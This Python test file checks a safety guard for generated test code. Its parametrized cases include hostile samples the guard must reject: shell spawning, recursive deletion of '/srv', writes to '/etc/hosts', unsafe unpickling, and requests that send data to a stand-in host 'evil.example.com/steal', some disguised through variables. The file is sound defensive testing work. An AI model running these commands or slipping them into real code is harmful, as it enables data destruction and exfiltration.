"""Static checks on generated test code: shape, Allure annotation and the safety guard."""

from __future__ import annotations

import textwrap

import pytest

from tools.safety import check_module, check_test_code

HOSTS = {"127.0.0.1:8080", "localhost:8080"}


def _test_code(body: str, *, params: str = "client", decorators: str = '@allure.title("it works")\n') -> str:
    indented = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return f"{decorators}def test_it({params}) -> None:\n{indented}"


def test_a_clean_test_passes() -> None:
    code = _test_code(
        '''
        """Creates a task; see https://docs.example.com/tasks for the contract."""
        response = client.post("http://127.0.0.1:8080/tasks", json={"title": "x"})
        pattern = re.compile(r"\\d+")
        with open("expected.json") as handle:
            expected = handle.read()
        assert response.status_code == 201, expected
        assert pattern.match(response.json()["id"])
        ''',
        decorators='@allure.feature("tasks")\n@allure.story("create")\n@allure.title("creates a task")\n',
    )
    assert check_test_code(code, allowed_hosts=HOSTS) == []


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        ("import subprocess\nsubprocess.run(['ls'])", "import of subprocess"),
        ("subprocess.run(['ls'])", "use of subprocess.run"),
        ("os.system('ls')", "use of os.system"),
        ("os.popen('ls')", "use of os.popen"),
        ("os.execv('/bin/sh', [])", "use of os.execv"),
        ("os.spawnl(0, '/bin/sh')", "use of os.spawnl"),
        ("os.remove('data.db')", "use of os.remove"),
        ("os.unlink('data.db')", "use of os.unlink"),
        ("shutil.rmtree('/srv')", "use of shutil.rmtree"),
        ("from os import system as run\nrun('ls')", "use of os.system"),
        ("eval('1 + 1')", "use of eval"),
        ("exec('x = 1')", "use of exec"),
        ("compile('1', 'f', 'eval')", "use of compile"),
        ("__import__('os')", "use of __import__"),
        ("open('/etc/hosts', 'w')", "open() for writing"),
        ("open('report.txt', mode='a')", "open() for writing"),
        ("open(tmp_path / '../../etc/hosts', 'w')", "open() for writing"),
        ("Path('/etc/hosts').write_text('')", ".write_text()"),
        ("import socket\nsocket.create_connection(('127.0.0.1', 8080))", "import of socket"),
        ("ctypes.CDLL('libc.so.6')", "use of ctypes.CDLL"),
        ("pickle.loads(client.get('/blob').content)", "use of pickle.loads"),
        ("time.sleep(1)", "generated tests must not sleep"),
        ("client.get('http://evil.example.com/steal')", "'evil.example.com' is not an allowed target"),
        ("client.get('http://localhost:9000/tasks')", "'localhost:9000' is not an allowed target"),
    ],
)
def test_dangerous_constructs_are_rejected(body: str, problem: str) -> None:
    problems = check_test_code(_test_code(body, params="client, tmp_path"), allowed_hosts=HOSTS)
    assert any(problem in line for line in problems), problems


def test_writes_under_tmp_path_are_allowed() -> None:
    code = _test_code(
        """
        counter = tmp_path / "runs.txt"
        counter.write_text("1")
        with open(counter, "a") as handle:
            handle.write("2")
        with open(f"{tmp_path}/log.txt", "w") as handle:
            handle.write("3")
        """,
        params="tmp_path",
    )
    assert check_test_code(code, allowed_hosts=HOSTS) == []


def test_allowed_hosts_compare_host_and_port() -> None:
    allowed = _test_code('client.get("http://localhost:8080/a")\nclient.get("https://127.0.0.1:8080/b")')
    assert check_test_code(allowed, allowed_hosts=HOSTS) == []
    bare_host = _test_code('client.get("http://api.internal:9000/a")')
    assert check_test_code(bare_host, allowed_hosts={"api.internal"}) == []
    assert check_test_code(bare_host, allowed_hosts={"api.internal:8000"}) != []


def test_missing_allure_title_is_flagged() -> None:
    undecorated = _test_code("assert True", decorators="")
    assert check_test_code(undecorated, allowed_hosts=HOSTS) == [
        "line 1: missing Allure annotation @allure.title(...)"
    ]
    feature_only = _test_code("assert True", decorators='@allure.feature("tasks")\n')
    assert check_test_code(feature_only, allowed_hosts=HOSTS) == [
        "line 2: missing Allure annotation @allure.title(...)"
    ]


def test_shape_problems_are_reported() -> None:
    assert check_test_code("def test_it(:\n    pass\n", allowed_hosts=HOSTS) == [
        "syntax error at line 1: invalid syntax"
    ]
    two = _test_code("assert True") + "\n\n" + _test_code("assert True").replace("test_it", "test_other")
    assert check_test_code(two, allowed_hosts=HOSTS) == [
        "expected exactly one top-level test function, found 2"
    ]
    renamed = _test_code("assert True").replace("test_it", "check_it")
    assert check_test_code(renamed, allowed_hosts=HOSTS) == [
        "line 2: function 'check_it' must start with 'test_'"
    ]


def test_support_modules_may_define_fixtures_but_not_run_processes() -> None:
    conftest = textwrap.dedent(
        """
        import os
        import time

        import pytest

        BASE_URL = "http://127.0.0.1:8080"


        @pytest.fixture
        def base_url() -> str:
            time.sleep(0)  # a support helper may poll; only tests must not sleep
            return os.environ.get("TESTOPS_BASE_URL", BASE_URL)
        """
    )
    assert check_module(conftest, allowed_hosts=HOSTS) == []
    assert check_module(conftest + "\nimport subprocess\n", allowed_hosts=HOSTS) == [
        "line 15: import of subprocess is not allowed (runs processes)"
    ]
    foreign = conftest.replace("127.0.0.1:8080", "example.com")
    [problem] = check_module(foreign, allowed_hosts=HOSTS)
    assert "'example.com' is not an allowed target" in problem
    assert check_module("def broken(:\n", allowed_hosts=HOSTS) == ["syntax error at line 1: invalid syntax"]


@pytest.mark.parametrize(
    "body",
    [
        'client.post("/albums", json={"coverUrls": ["https://example.com/a.png"], "title": "x"})',
        'client.get("/albums", params={"next": "https://example.com/p/2"}, headers={"Referer": "https://example.com"})',
        """
        album = {"homepage": "https://example.com/band"}
        album["links"] = ["https://example.org/tour"]
        response = client.put("/albums/1", json=album)
        assert response.json()["homepage"] == album["homepage"]
        """,
        """
        body = client.get("/albums/1").json()
        assert body["homepage"] == "https://example.com/band", "expected /homepage == 'https://example.com/band'"
        assert "https://example.org/tour" in body["links"]
        """,
        'client.post("/uploads", data={"source": "https://example.com/raw"}, files={"f": b"x"})',
    ],
)
def test_urls_in_the_data_a_request_carries_are_not_targets(body: str) -> None:
    assert check_test_code(_test_code(body), allowed_hosts=HOSTS) == []


@pytest.mark.parametrize(
    "body",
    [
        'target = "http://evil.example.com/steal"\nclient.get(target)',
        'host = "evil.example.com"\nclient.get(f"http://{host}/steal")',
        'client.get("http://evil.example.com" + "/steal")',
        'album = {"callback": "http://evil.example.com/hook"}\nclient.post(album["callback"])',
        'urls = ["http://evil.example.com/a"]\nfor url in urls:\n    client.get(url)',
        'with httpx.Client(base_url="http://evil.example.com") as other:\n    other.get("/a")',
        'url = "http://evil.example.com/a"\nhttpx.request("GET", url, json={"ok": True})',
        'page.goto(url := "http://evil.example.com/login")',
        'client.post("/a", json=client.get("http://evil.example.com/secret").json())',
        'class Target:\n    url = "http://evil.example.com/a"\nclient.get(Target.url)',
    ],
)
def test_sends_to_a_foreign_host_through_variables_are_caught(body: str) -> None:
    problems = check_test_code(_test_code(body, params="client, page"), allowed_hosts=HOSTS)
    assert any("'evil.example.com' is not an allowed target" in line for line in problems), problems


def test_a_module_level_url_counts_as_a_target_wherever_it_is_used() -> None:
    settings = 'BASE_URL = "http://evil.example.com"\nPAYLOAD = {"url": "https://example.com"}\n'
    problems = check_module(settings, allowed_hosts=HOSTS)
    assert len(problems) == 2 and "'evil.example.com'" in problems[0], problems


def test_a_parameter_is_not_mistaken_for_a_same_named_constant_elsewhere() -> None:
    code = _test_code(
        'host = "evil.example.com"\nassert host != "x"\n\ndef fetch(host):\n    client.get(f"http://{host}/a")'
    )
    assert check_test_code(code, allowed_hosts=HOSTS) == []
